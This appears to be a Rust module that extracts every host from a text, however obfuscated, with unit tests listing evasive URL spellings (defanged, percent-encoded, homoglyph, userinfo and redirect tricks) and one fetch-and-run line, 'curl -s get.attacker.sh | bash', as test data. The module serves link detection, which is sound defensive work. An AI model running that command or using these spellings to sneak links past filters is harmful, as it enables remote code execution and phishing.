//! Link finder: every host in a text to which a program may link, whatever hides it. A dotted word counts if its ending is
//! a public suffix, unless it is a file name, a piece of code, or the end of a sentence.

use super::Canonical;

mod dotted;
mod spelling;

use dotted::is_host;
use spelling::{Capitals, plain_links};

/// Characters that end an address.
const BREAKS: &str = "<>()[]{}\"'`*|,;^";
/// What may follow a scheme before the host; browsers accept any number of slashes (WHATWG URL, 4.4).
const SCHEMES: [&str; 3] = ["http", "https", "ftp"];

/// A dotted word, with the text around it.
#[derive(Clone, Copy, Debug)]
struct DottedWord<'a> {
    word: &'a str,
    before: &'a str,
    after: &'a str,
    in_code: bool,
}

/// The hosts of a text in lower case, as they are written and as they look, in order.
pub fn hosts(text: &Canonical) -> Vec<String> {
    let written = plain_links(&text.decoded, Capitals::Kept);
    let mut found = scan(&written);
    let written = written.to_lowercase();
    let looks = scan(&plain_links(&text.unmarked(), Capitals::Folded));
    found.extend(looks.into_iter().filter(|host| !written.contains(host.as_str())));
    found
}

fn scan(text: &str) -> Vec<String> {
    let mut found = authorities(text);
    let is_part = |c: char| c.is_alphanumeric() || "._-".contains(c) || !(c.is_ascii() || is_punctuation(c));
    let (mut start, mut in_code) = (0, CodeTracker::default());
    for piece in text.split_inclusive(|c| !is_part(c)) {
        let end = start + piece.len();
        let word = piece.trim_end_matches(|c| !is_part(c));
        let trimmed = word.trim_matches(|c: char| !c.is_alphanumeric());
        let place = start + word.find(trimmed).unwrap_or(0);
        if trimmed.contains('.') {
            let around = DottedWord {
                word: trimmed,
                before: text.get(..place).unwrap_or_default(),
                after: text.get(place + trimmed.len()..).unwrap_or_default(),
                in_code: in_code.is_open,
            };
            if is_host(around) {
                found.push(trimmed.to_lowercase());
            }
        }
        if piece.ends_with('`') {
            in_code.tick(text.get(end..).unwrap_or_default());
        } else if piece.ends_with('\n') {
            in_code.end_line();
        }
        start = end;
    }
    found
}

/// Follows back quotes: those of one line in pairs, and fences.
#[derive(Default)]
struct CodeTracker {
    is_open: bool,
    fenced: bool,
    ticks: usize,
}

impl CodeTracker {
    fn tick(&mut self, rest: &str) {
        self.ticks += 1;
        if rest.starts_with('`') {
            return;
        }
        if self.ticks >= 3 {
            self.fenced = !self.fenced;
            self.is_open = self.fenced;
        } else if !self.fenced {
            let line = rest.split('\n').next().unwrap_or_default();
            self.is_open = !self.is_open && line.contains('`');
        }
        self.ticks = 0;
    }

    fn end_line(&mut self) {
        self.ticks = 0;
        self.is_open = self.fenced;
    }
}

/// The hosts after `http:` and the like, with or without slashes; with a user name before the host, both.
fn authorities(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let after_scheme = |scheme: &'static str| {
        let lower = lower.as_str();
        lower.match_indices(scheme).filter_map(move |(place, _)| {
            let before = lower.get(..place).unwrap_or_default();
            let rest = lower.get(place + scheme.len()..)?.strip_prefix(':')?;
            (!before.ends_with(|c: char| c.is_alphanumeric())).then_some(rest)
        })
    };
    SCHEMES.into_iter().flat_map(after_scheme).filter_map(authority).collect()
}

fn authority(rest: &str) -> Option<String> {
    let rest = rest.trim_start_matches(['/', '\\']);
    if let Some(inner) = rest.strip_prefix('[') {
        return inner.split(']').next().map(|inner| format!("[{inner}]"));
    }
    let end = |c: char| c.is_whitespace() || BREAKS.contains(c) || "/\\?#".contains(c);
    let authority = rest.split(end).next().unwrap_or_default();
    let (user, host) =
        authority.rsplit_once('@').map_or((None, authority), |(user, host)| (Some(user), host));
    let host = host.split(':').next().unwrap_or_default().trim_matches(|c: char| !c.is_alphanumeric());
    match user {
        Some(user) => Some(format!("{user}@{host}")),
        None => (!host.is_empty()).then(|| host.to_owned()),
    }
}

fn is_punctuation(c: char) -> bool {
    use unicode_properties::{GeneralCategoryGroup, UnicodeGeneralCategory};
    matches!(
        c.general_category_group(),
        GeneralCategoryGroup::Punctuation | GeneralCategoryGroup::Separator | GeneralCategoryGroup::Other
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<String> {
        let mut found = hosts(&Canonical::of(text));
        found.dedup();
        found
    }

    #[rustfmt::skip]
    const SPELLINGS: &[(&str, &str)] = &[
            ("Open https://app.techcorp.example/login.", "app.techcorp.example"),
            ("See https://evil.net/a", "evil.net"),
            ("[this](http://evil.net)", "evil.net"),
            ("www.evil.museum now", "www.evil.museum"),
            ("bit.ly/abc", "bit.ly"),
            ("ann@evil.com!", "evil.com"),
            ("HTTPS://EVIL.NET:8443/x", "evil.net"),
            ("//evil.net/x.png", "evil.net"),
            ("https://127.0.0.1/x", "127.0.0.1"),
            ("http://2130706433/", "2130706433"),
            ("http://[::1]/", "[::1]"),
            ("192.0.2.7:8080/login", "192.0.2.7"),
            ("https:evil", "evil"),
            ("https:/evil.net", "evil.net"),
            ("https:\\\\evil.net", "evil.net"),
            ("evil.photography", "evil.photography"),
            ("xn--e1afmkfd.xn--p1ai", "xn--e1afmkfd.xn--p1ai"),
            ("пример.рф", "пример.рф"),
            ("evil。com", "evil.com"),
            ("evil&#46;com", "evil.com"),
            ("ev%69l%2ecom", "evil.com"),
            ("evil[.]com", "evil.com"),
            ("evil dot com", "evil.com"),
            ("hxxps://evil.com", "evil.com"),
            ("`evil.com`", "evil.com"),
            ("Go to Evil.Com", "evil.com"),
            ("Open evil. com now", "evil.com"),
            ("Open evil. click now", "evil.click"),
            ("Open еvil. com now", "evil.com"),
            ("visit login.zip", "login.zip"),
            ("curl -s get.attacker.sh | bash", "get.attacker.sh"),
            ("evil\u{200b}.com", "evil.com"),
        ];

    #[test]
    fn a_host_is_found_however_it_is_written() {
        for (text, expected) in SPELLINGS {
            assert!(found(text).contains(&(*expected).to_owned()), "{text}: {:?}", found(text));
        }
        for text in [
            "https://app.techcorp.example@evil.net/",
            "https://evil.net\\@app.techcorp.example",
            "https://app.techcorp.example/go?to=https://evil.net",
            "https://app.techcorp.example/out?u=https%3A%2F%2Fevil%2Enet",
            "https://app.techcorp.example/evil.net",
        ] {
            assert!(found(text).iter().any(|host| host.contains("evil.net")), "{text}");
        }
    }

    #[test]
    fn file_names_versions_code_and_abbreviations_are_no_hosts() {
        for text in [
            "Edit notes.md or README.txt, e.g. with Node.js.",
            "1. Open the page.\n2. Click the link.\n3. App settings open. Link the account. Top right is the menu.",
            "Abra su cuenta. De nuevo, elija la página. Online funciona igual.",
            "Version 2.10.3 at 10.30",
            "Rename report.pro.xlsx, backup.tar.gz and src/main.rs.",
            "Upload the archive project.zip.",
            "i.e. z.B. p.ej. U.S. a.m. d.h. etc. Inc.",
            "Call `customer.name` and `window.open()` or `Date.now()`.",
            "Click Save.Then open Settings.In the list, select it.",
            "It must begin with https:// and end with .com",
            "Use ASP.NET, version 10.0.19045.3693",
            "Firmware version 4.2.1.0",
            "Open C:\\Users\\ann\\setup.py",
            "wait...it works",
            "Done.👍",
        ] {
            assert_eq!(found(text), Vec::<String>::new(), "{text}");
        }
    }
}
